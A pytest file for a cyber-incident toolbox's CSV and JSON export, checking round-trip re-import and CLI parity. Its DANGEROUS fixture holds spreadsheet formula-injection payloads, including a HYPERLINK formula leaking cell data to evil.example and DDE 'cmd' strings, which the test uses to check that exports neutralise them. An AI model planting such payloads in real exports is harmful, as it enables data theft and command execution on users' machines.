"""Downloads of the incident list: what is exported imports again, elsewhere, unchanged."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from cdtoolbox.formats.csv.vocabulary import COLUMNS
from cdtoolbox.knowledge import KnowledgeBase
from cdtoolbox.model.access import SYSTEM_USER
from cdtoolbox.toolbox import Settings, Toolbox
from tests_support import Cli
from web_support import TestClient


@pytest.fixture
def empty_toolbox(tmp_path: Path, knowledge: KnowledgeBase) -> Toolbox:
    """Another installation: reference actors loaded, no incidents of ours."""
    toolbox = Toolbox(Settings(f"sqlite:///{tmp_path / 'other.sqlite3'}"), knowledge=knowledge)
    toolbox.database.migrate()
    with toolbox.database.transaction() as store:
        store.actors.upsert_many(knowledge.actors.all())
    return toolbox


def test_csv_export_has_the_import_columns_and_the_filtered_rows(
    client: TestClient, app_toolbox: Toolbox
) -> None:
    response = client.get("/incidents/export.csv", params={"victim_country": "UA"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert tuple(rows[0]) == COLUMNS
    expected = app_toolbox.incidents.list(
        app_toolbox.incidents.filter_from({"victim_country": "UA"}, by=SYSTEM_USER), by=SYSTEM_USER
    )
    assert [row["title"] for row in rows] == [incident.title for incident in expected.items]


def test_csv_export_imports_again(
    client: TestClient, app_toolbox: Toolbox, empty_toolbox: Toolbox, tmp_path: Path
) -> None:
    exported = tmp_path / "incidents.csv"
    exported.write_bytes(client.get("/incidents/export.csv", params={"type": "ransomware"}).content)
    with empty_toolbox:
        report = empty_toolbox.incidents.import_csv(exported, by=SYSTEM_USER)
        originals = app_toolbox.incidents.list(
            app_toolbox.incidents.filter_from({"type": "ransomware"}, by=SYSTEM_USER),
            by=SYSTEM_USER,
        )
        assert [i.title for i in report.created] == [i.title for i in originals.items]
        for copy, original in zip(report.created, originals.items, strict=True):
            assert copy.start == original.start and copy.types == original.types
            assert copy.victim_countries == original.victim_countries
            assert copy.actor_ids == original.actor_ids
            assert copy.impact.systems_affected == original.impact.systems_affected


def test_json_export_imports_again_whole(
    client: TestClient, app_toolbox: Toolbox, empty_toolbox: Toolbox, tmp_path: Path
) -> None:
    response = client.get("/incidents/export.json", params={"sponsor": "KP"})
    assert response.status_code == 200
    document = json.loads(response.text)
    assert set(document) == {"incidents"} and document["incidents"]
    exported = tmp_path / "incidents.json"
    exported.write_text(response.text, encoding="utf-8")
    with empty_toolbox:
        report = empty_toolbox.incidents.import_file(exported, by=SYSTEM_USER)
        for copy in report.created:
            original = app_toolbox.incidents.get(copy.id, by=SYSTEM_USER)
            assert copy.evolve(created_at=None, updated_at=None) == original.evolve(
                created_at=None, updated_at=None
            )


def test_an_export_of_nothing_is_a_valid_empty_file(client: TestClient) -> None:
    empty = client.get("/incidents/export.json", params={"text": "zzzzqqqq"})
    assert json.loads(empty.text) == {"incidents": []}
    rows = list(csv.reader(io.StringIO(client.get("/incidents/export.csv?text=zzzzqqqq").text)))
    assert rows == [list(COLUMNS)]


def test_an_export_with_a_wrong_filter_is_refused(client: TestClient) -> None:
    response = client.get("/incidents/export.csv", params={"victim_country": "Narnia"})
    assert response.status_code == 422
    assert "Narnia" in response.text


DANGEROUS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "summary": "+cmd|' /C calc'!A0",
    "start": "2021",
    "types": ["ransomware"],
    "victims": {"organisations": [{"name": "@SUM(1+1)*cmd"}, {"name": "Plain Org"}]},
    "sources": [{"title": "-2+3+cmd|' /C calc'!A0"}],
}


def test_csv_export_cells_cannot_run_as_formulas_and_import_back_unchanged(
    fresh_toolbox: Toolbox, fresh_client: TestClient, empty_toolbox: Toolbox, tmp_path: Path
) -> None:
    quoted = {**DANGEROUS, "title": "'Tis a quoted title", "start": "2022"}
    fresh_toolbox.incidents.add([DANGEROUS, quoted], by=SYSTEM_USER)
    response = fresh_client.get("/incidents/export.csv", params={"since": "2021"})
    rows = [row for row in csv.DictReader(io.StringIO(response.text)) if row["start"] >= "2021"]
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    by_start = {row["start"]: row for row in rows}
    assert by_start["2021"]["title"] == "'" + DANGEROUS["title"]
    assert by_start["2021"]["summary"] == "'" + DANGEROUS["summary"]
    assert by_start["2021"]["victim_organisations"] == "'@SUM(1+1)*cmd; Plain Org"
    assert by_start["2021"]["source_title"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_start["2022"]["title"] == "''Tis a quoted title"

    exported = tmp_path / "incidents.csv"
    exported.write_bytes(response.content)
    with empty_toolbox:
        created = {
            i.title: i for i in empty_toolbox.incidents.import_csv(exported, by=SYSTEM_USER).created
        }
    copy = created[DANGEROUS["title"]]
    assert copy.summary == DANGEROUS["summary"]
    assert [org.name for org in copy.victim_organisations] == ["@SUM(1+1)*cmd", "Plain Org"]
    assert copy.sources[0].title == DANGEROUS["sources"][0]["title"]
    assert "'Tis a quoted title" in created


@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_the_command_line_writes_the_same_download_as_the_page(
    cli: Cli, client: TestClient, initialised_url: str, tmp_path: Path, export_format: str
) -> None:
    page = client.get(f"/incidents/export.{export_format}", params={"type": "ransomware"})
    options = ["incidents", "export", "--format", export_format, "--type", "ransomware"]
    written = tmp_path / f"incidents.{export_format}"
    result = cli(initialised_url, *options, "--output", written)
    assert result.exit_code == 0, result.output
    assert written.read_bytes() == page.content
    printed = cli(initialised_url, *options)
    assert printed.exit_code == 0, printed.output
    assert printed.stdout_bytes == page.content
